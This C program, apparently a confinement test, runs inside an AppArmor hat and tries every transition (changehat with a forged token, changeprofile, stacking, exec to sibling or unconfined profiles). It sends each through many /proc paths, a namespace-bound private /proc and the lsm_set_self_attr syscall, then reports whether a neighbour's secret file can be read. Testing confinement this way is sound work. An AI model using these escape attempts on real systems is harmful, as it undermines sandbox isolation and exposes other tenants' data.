// attack PROFILE FILE [READY GO]: tries, from inside a hat of PROFILE, every way that AppArmor's own interfaces offer to
// become something else, and says of each whether FILE, a neighbour's, can then be read. One line a try:
//
//     WAY COMMAND RESULT        e.g. "task changehat:blog reads", "syscall changeprofile:unconfined EPERM"
//
// RESULT is "reads", or the errno of the step that failed. The first line says that FILE cannot be read before
// ("before - EACCES"), the last is "done". With READY and GO it makes the file READY and begins when GO is there, so that a
// neighbour can be loaded after the hat was entered.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

// include/uapi/linux/lsm.h, since Linux 6.8
enum { call_set_self_attr = 460, attr_current = 100, attr_exec = 101, id_apparmor = 104 };

static const char *profile, *secret;

static int write_to(const char *path, const char *command)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return errno;
    return write(fd, command, strlen(command)) < 0 ? errno : 0;
}

// /proc under another path, where rules that speak of /proc do not reach: in a namespace of our own.
static int by_other_proc(const char *file, const char *command)
{
    const char *mine = "/srv/shop/tmp/proc";
    char path[128];
    mkdir(mine, 0700);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0 || mount("/proc", mine, NULL, MS_BIND | MS_REC, NULL) != 0)
        return errno;
    snprintf(path, sizeof path, "%s/self/attr/%s", mine, file);
    return write_to(path, command);
}

static int by_syscall(const char *file, const char *command)
{
    struct { uint64_t id, flags, length, text_length; char text[256]; } context = { .id = id_apparmor };
    context.text_length = strlen(command);
    context.length = 32 + context.text_length;
    memcpy(context.text, command, context.text_length);
    int attr = strcmp(file, "exec") == 0 ? attr_exec : attr_current;
    return syscall(call_set_self_attr, attr, &context, (unsigned)context.length, 0) == 0 ? 0 : errno;
}

// Gives the command to AppArmor by `way`. 0 or errno.
static int tell(const char *way, const char *file, const char *command)
{
    char path[128];
    if (strcmp(way, "syscall") == 0)
        return by_syscall(file, command);
    if (strcmp(way, "other-proc") == 0)
        return by_other_proc(file, command);
    if (strcmp(way, "self") == 0)
        snprintf(path, sizeof path, "/proc/self/attr/%s", file);
    else if (strcmp(way, "apparmor") == 0)
        snprintf(path, sizeof path, "/proc/self/attr/apparmor/%s", file);
    else if (strcmp(way, "thread-self") == 0)
        snprintf(path, sizeof path, "/proc/thread-self/attr/%s", file);
    else if (strcmp(way, "pid") == 0)
        snprintf(path, sizeof path, "/proc/%d/attr/%s", getpid(), file);
    else
        snprintf(path, sizeof path, "/proc/self/task/%d/attr/%s", getpid(), file);
    return write_to(path, command);
}

static int read_secret(void)
{
    char byte;
    int fd = open(secret, O_RDONLY | O_CLOEXEC);
    return fd >= 0 && read(fd, &byte, 1) == 1 ? 0 : errno;
}

// One try in a process of its own, as it may end as something else. attr/exec only speaks of the next exec.
static void attempt(const char *way, const char *file, const char *command, const char *shown)
{
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        int error = tell(way, file, command);
        if (error == 0 && strcmp(file, "exec") == 0) {
            execl("/proc/self/exe", "attack", "--read", secret, NULL);
            error = errno;
        }
        _exit(error ? error : read_secret());
    }
    int status = 0;
    waitpid(child, &status, 0);
    const char *result = !WIFEXITED(status) ? "killed" : WEXITSTATUS(status) == 0 ? "reads"
        : strerrorname_np(WEXITSTATUS(status));
    printf("%s %s %s\n", way, shown, result ? result : "?");
}

// `target` is a sibling's name, "" for the profile itself, or "unconfined"; with "&" in front, a stack of that and the
// profile: out of a stack under no_new_privs, only what the profile stays a member of can be reached.
static void attempt_all_ways(const char *verb, const char *file, const char *target)
{
    static const char *const ways[] = { "self", "apparmor", "thread-self", "pid", "task", "other-proc", "syscall" };
    char label[256], command[300], shown[128];
    if (strcmp(target, "&unconfined") == 0)
        snprintf(label, sizeof label, "%s//&unconfined", profile);
    else if (*target == '&')
        snprintf(label, sizeof label, "%s//&%s//%s", profile, profile, target + 1);
    else if (strcmp(target, "unconfined") == 0)
        snprintf(label, sizeof label, "unconfined");
    else
        snprintf(label, sizeof label, "%s%s%s", profile, *target ? "//" : "", target);
    // Any token will do: exec has cleared the one that the hat was entered with.
    if (strcmp(verb, "changehat") == 0)
        snprintf(command, sizeof command, "changehat 0000000000000099^%s", target);
    else
        snprintf(command, sizeof command, "%s %s", verb, label);
    snprintf(shown, sizeof shown, "%s%s:%s", verb, strcmp(file, "exec") == 0 && *verb == 's' ? "-exec" : "",
             *target ? target : "profile");
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
        attempt(ways[i], file, command, shown);
}

static void wait_for(const char *path)
{
    const struct timespec tick = { 0, 20 * 1000 * 1000 };
    for (int i = 0; access(path, F_OK) != 0; i++) {
        if (i == 3000)
            exit(1);
        nanosleep(&tick, NULL);
    }
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "--read") == 0) {
        secret = argv[2];
        return read_secret();
    }
    if (argc != 3 && argc != 5)
        return 2;
    profile = argv[1];
    secret = argv[2];
    if (argc == 5) {
        close(open(argv[3], O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
        wait_for(argv[4]);
    }

    int before = read_secret();
    printf("before - %s\n", before ? strerrorname_np(before) : "reads");
    attempt_all_ways("changehat", "current", "blog");
    attempt_all_ways("changehat", "current", "late");
    attempt_all_ways("changeprofile", "current", "blog");
    attempt_all_ways("changeprofile", "current", "late");
    attempt_all_ways("changeprofile", "current", "");
    attempt_all_ways("changeprofile", "current", "unconfined");
    attempt_all_ways("changeprofile", "current", "&blog");
    attempt_all_ways("changeprofile", "current", "&late");
    attempt_all_ways("changeprofile", "current", "&unconfined");
    attempt_all_ways("stack", "current", "blog");
    attempt_all_ways("exec", "exec", "blog");
    attempt_all_ways("exec", "exec", "late");
    attempt_all_ways("exec", "exec", "");
    attempt_all_ways("exec", "exec", "unconfined");
    attempt_all_ways("exec", "exec", "&blog");
    attempt_all_ways("stack", "exec", "blog");
    puts("done");
    return 0;
}
